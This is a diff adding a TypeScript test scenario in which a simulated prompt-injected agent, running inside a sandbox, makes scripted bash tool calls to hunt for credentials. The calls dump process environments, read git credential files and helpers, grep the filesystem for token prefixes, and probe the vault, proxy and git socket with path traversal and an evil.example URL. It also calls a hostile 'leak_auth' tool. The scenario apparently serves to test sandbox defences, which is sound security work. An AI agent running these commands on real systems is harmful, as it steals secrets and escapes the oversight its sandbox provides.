@@ -1,0 +1,63 @@
+/**
+ * The prompt-injected agent, as an offline-model scenario: every step is a real tool call that
+ * tries to get at a credential from inside the sandbox (environment, every readable file, git
+ * configuration and credential helpers, /proc, the vault and the proxy directly, the git path for
+ * other repositories), or to make a server hand one back (a hostile MCP tool, an echoing API).
+ */
+import { defineScenario, type Scenario, type StepSpec } from "@metaharness/offline-model";
+import type { Targets } from "./stack.js";
+
+const bash = (command: string): StepSpec => ({ toolUses: [{ name: "bash", input: { command, timeout_ms: 60_000 } }] });
+const hex = (s: string): string => Buffer.from(s).toString("hex");
+
+export const ATTACK = "attack";
+
+export function attackScenario(t: Targets): Scenario {
+  const other = `${t.gitUrl}/org/other.git`;
+  const gitHost = new URL(t.gitUrl).host;
+  return defineScenario(ATTACK, [
+    bash("env; echo ---; tr '\\0' '\\n' < /proc/self/environ"),
+    bash("for p in /proc/[0-9]*; do echo \"== $p: $(tr '\\0' ' ' < $p/cmdline 2>/dev/null)\"; tr '\\0' '\\n' < $p/environ 2>/dev/null; done"),
+    bash(
+      [
+        "cd /workspace/app",
+        "git config -l --show-origin",
+        "git config --global -l; git config --system -l",
+        "git config --get-all credential.helper; echo helpers=$?",
+        "cat ~/.git-credentials ~/.config/git/credentials 2>&1",
+        `printf 'protocol=http\\nhost=${gitHost}\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>&1; echo fill=$?`,
+        "ls -la ~ /workspace/app/.git /run/metaharness /opt/metaharness/bin",
+      ].join("; "),
+    ),
+    bash(
+      "find / -xdev \\( -path /proc -o -path /sys -o -path /usr \\) -prune -o -type f -readable -print 2>/dev/null | " +
+        "while read -r f; do echo \"== $f\"; head -c 1500 \"$f\" | tr -c '[:print:]\\n' '.'; echo; done | head -c 90000",
+    ),
+    bash(
+      "grep -r -a -o -h -E '(ghs|ghp|sk|at|rt|cs|mhsvc)_[A-Za-z0-9_-]{8,}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null | sort -u | head -50; echo hunted",
+    ),
+    bash(
+      [
+        `curl -s -m 3 http://127.0.0.1:${t.vaultPort}/; echo vault=$?`,
+        `curl -s -m 3 ${t.vaultRemote}/git/; echo remote=$?`,
+        `curl -s -m 3 --noproxy '' -x http://127.0.0.1:3128 ${t.vaultRemote}/git/x -o /dev/null -w 'via-egress %{http_code}'; echo`,
+        `curl -s -m 3 '${t.gitUrl}/org/app.git/info/refs?service=git-upload-pack'; echo git-direct=$?`,
+      ].join("; "),
+    ),
+    bash(
+      [
+        "cd /workspace/app",
+        `git ls-remote mh::${other} 2>&1; echo other=$?`,
+        `git fetch mh::${other} 2>&1; echo fetch-other=$?`,
+        ...[other, `${t.vaultRemote}/git/AAAA/0`, "http://evil.example/x"].map(
+          (u) => `curl -s -o /dev/null -w '${u} %{http_code}\\n' --unix-socket /run/metaharness/git.sock 'http://x/${hex(u)}/info/refs?service=git-upload-pack'`,
+        ),
+        "curl -s --unix-socket /run/metaharness/git.sock --path-as-is 'http://x/../../etc/passwd'; echo",
+        "git fetch origin 2>&1 && echo own-fetch-ok",
+      ].join("; "),
+    ),
+    { toolUses: [{ name: "leak_auth", input: {} }] },
+    bash(`curl -s http://${t.api}/whoami; echo; curl -s -o /dev/null -w '%{http_code}' http://example.com/; echo`),
+    { text: "nothing found" },
+  ]);
+}
